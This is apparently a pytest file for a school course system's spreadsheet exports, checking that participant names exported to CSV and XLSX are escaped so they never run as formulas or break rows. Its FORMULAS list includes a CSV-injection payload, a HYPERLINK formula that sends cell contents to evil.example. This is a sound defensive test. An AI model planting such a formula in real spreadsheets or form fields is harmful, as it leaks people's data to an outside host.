"""The one spreadsheet writer: no cell of any export is a live formula or a broken line."""
from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from catalog.enrollment import operations as enrollment_ops
from lms.db import db
from lms.exports import csv_body, safe_text, xlsx_body

#: Names a hostile leader or a staff CSV could give a person; each would run in Excel as it stands.
FORMULAS = ['=HYPERLINK("http://evil.example/?d="&B3&C3,"Klikk")', "=1+1", "@SUM(1+1)", "+1+1", "-1+1",
            "\t=1+1", "\r=1+1"]


def read_csv(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""), delimiter=";"))


def assert_no_formula_in_workbook(data: bytes) -> list[list]:
    book = load_workbook(io.BytesIO(data))
    rows = []
    for row in book.active.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if isinstance(cell.value, str):
                assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), cell.value
        rows.append([cell.value for cell in row])
    return rows


@pytest.mark.parametrize("name", FORMULAS)
def test_participant_exports_show_a_formula_name_as_text(login, admin, make_offering, make_user, now, name):
    offering = make_offering()
    person = make_user(name)
    enrollment_ops.enroll(offering.id, person, actor=person, now=now)
    db.session.commit()
    c = login(admin)
    rows = read_csv(c.get(f"/kurs/{offering.id}/deltakere.csv").get_data(as_text=True))
    assert len(rows) == 2  # the header and one line: no tab or carriage return broke the row
    assert rows[1][0].startswith("'") and rows[1][0].lstrip("'").strip() == name.strip()
    response = c.get(f"/kurs/{offering.id}/deltakere.xlsx")
    assert response.mimetype.endswith("spreadsheetml.sheet")
    cells = assert_no_formula_in_workbook(response.data)
    assert cells[1][0].startswith("'") and cells[1][0].lstrip("'").strip() == name.strip()


def test_fyrtarn_overview_csv_goes_through_the_writer(login, admin, make_user):
    # The overview lists fyrtårn by name; with no bookings the table is empty but the writer still answers.
    response = login(admin).get("/fyrtarn/oversikt.csv?semester=2026H")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert read_csv(response.get_data(as_text=True))[0][0] == "Fyrtårnoversikt"


def test_line_breaks_and_control_characters_stay_on_one_line():
    rows = [["Navn", "Skole"], ["Kari\nNordmann", "Skole\r\nmed\x00linjeskift\x0b"], [3, 2.5]]
    read = read_csv(csv_body(rows))
    assert read == [["Navn", "Skole"], ["Kari Nordmann", "Skole  med linjeskift "], ["3", "2.5"]]
    cells = assert_no_formula_in_workbook(xlsx_body(rows, "Ark: [1]"))
    assert cells[1] == ["Kari Nordmann", "Skole  med linjeskift "]
    assert cells[2] == [3, 2.5]  # numbers stay numbers


def test_safe_text_leaves_ordinary_text_alone():
    assert safe_text("Åse Ødegård") == "Åse Ødegård"
    assert safe_text(None) == ""
    assert safe_text("=1+1") == "'=1+1"
